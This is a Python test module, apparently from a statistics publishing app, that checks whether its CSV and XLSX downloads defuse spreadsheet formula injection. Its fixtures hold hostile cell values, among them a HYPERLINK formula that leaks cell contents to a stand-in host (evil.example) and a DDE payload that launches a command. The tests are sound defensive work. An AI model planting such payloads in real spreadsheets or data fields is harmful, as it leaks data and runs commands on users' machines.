"""Finding 1 of the outside probe: a note, series name or title starting with `=`, `+`, `-`, `@`,
tab or CR was written as is — a live `<f>HYPERLINK(…)</f>` in the site's XLSX, the explorer's XLSX
and the pack's tables.xlsx, and `=HYPERLINK(…)`, `+1+1`, `@SUM(1,1)` raw in CSV.

Every spreadsheet-shaped download of a small content root whose texts are all hostile is opened:
CSV text fields never start with a formula character (OWASP's leading quote), numbers stay numbers
(a negative value is not text), and XLSX files hold no formula at all, their texts as text cells.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from statpub.dashboards.app import create_app
from statpub.etl.load import load
from statpub.kernel.clock import Clock, parse_instant
from tests.etl.builder import MiniRoot, approve_all

HOSTILE = {"PART_A": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "PART_B": "+1+1",
           "GROWTH": "@SUM(1,1)", "GDP": "-2+3"}
NOTES = {"GDP": "=cmd|' /C calc'!A0", "PART_A": "\t=1+1", "PART_B": "\r=1+1", "GROWTH": "-1-1"}
SERIES = ["GDP", "PART_A", "PART_B", "GROWTH"]
INSTANT = "2024-04-19T10:00:00+08:00"
LATER = parse_instant("2024-05-01T10:00:00+08:00")
STARTERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    mini = MiniRoot(tmp_path_factory.mktemp("formula"))
    catalogue = mini.root / "releases" / "catalogue.yaml"
    text = catalogue.read_text(encoding="utf-8")
    for code, hostile in HOSTILE.items():  # each series' English name, as a hostile editor typed it
        text = re.sub(rf"(- code: {code}\n(?:  .*\n)*?  name: {{zh: [^,]*, en: )[^}}]*}}",
                      lambda m, h=hostile: m.group(1) + "'" + h.replace("'", "''") + "'}", text, count=1)
    catalogue.write_text(text, encoding="utf-8")
    rows = "\n".join(f'{code},2024-Q1,{value},"{NOTES[code]}"' for code, value in
                     (("GDP", 100), ("PART_A", 40), ("PART_B", 60), ("GROWTH", -5.5)))
    mini.add("r1", INSTANT, SERIES, [{"file": "d.csv", "layout": "long"}],
             {"d.csv": "series_code,period,value,note\n" + rows + "\n"},
             title={"zh": "=1+1 标题", "en": "@SUM(1,1) title"})
    load(mini.settings, clock=Clock(start=LATER))
    approve_all(mini.settings, Clock(start=LATER))
    app = create_app(mini.settings, Clock(start=LATER))
    return app.server.test_client()


def _get(client, path: str) -> bytes:
    answer = client.get(path, follow_redirects=True)
    assert answer.status_code == 200, (path, answer.status_code, answer.get_data(as_text=True)[:300])
    return answer.get_data()


def assert_safe_csv(data: bytes, where: str) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    fields = [field for row in rows[1:] for field in row]
    assert any(field[:1] == "'" and field[1:2] in "=+-@\t\r" for field in fields), f"{where}: hostile texts, quoted"
    for field in fields:
        if field.startswith(STARTERS):
            float(field)  # only a number may start so (a negative value), never text
    assert "-5.5" in fields, f"{where}: the negative figure stays a number"


def assert_safe_xlsx(data: bytes, where: str) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), f"{where}: {name}"
    book = load_workbook(io.BytesIO(data))
    texts = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value.startswith("=") for c in texts), f"{where}: the hostile texts are there"
    assert all(c.data_type == "s" for c in texts), where
    numbers = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
               if isinstance(c.value, float | int) and not isinstance(c.value, bool)]
    assert -5.5 in numbers, f"{where}: the negative figure stays a number"


CSV_PATHS = ("/download/release/r1.csv", "/download/view.csv?series=GDP,PART_A,PART_B,GROWTH",
             "/api/v1/series/GROWTH/observations?format=csv", "/api/v1/releases/r1/observations?format=csv",
             "/api/v1/files/latest/values.csv", "/api/v1/files/r1/releases/r1.csv", "/api/v1/files/r1/series/GDP.csv")
XLSX_PATHS = ("/download/release/r1.xlsx", "/download/view.xlsx?series=GDP,PART_A,PART_B,GROWTH")


@pytest.mark.parametrize("path", CSV_PATHS)
def test_csv_downloads_neutralise_formulas(client, path):
    data = _get(client, path)
    if path.endswith(("GDP.csv", "values.csv", "releases/r1.csv")):  # compact files: notes, no names
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert all(not f.startswith(STARTERS) or _number(f) for row in rows for f in row), path
        assert any(f.startswith("'") for row in rows for f in row), path
        return
    assert_safe_csv(data, path)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("path", XLSX_PATHS)
def test_xlsx_downloads_hold_no_formula(client, path):
    assert_safe_xlsx(_get(client, path), path)


def test_briefing_pack_tables_and_csv(client):
    with zipfile.ZipFile(io.BytesIO(_get(client, "/packs/r1.zip"))) as pack:
        assert_safe_xlsx(pack.read("tables.xlsx"), "pack tables.xlsx")
        assert_safe_csv(pack.read("data.csv"), "pack data.csv")
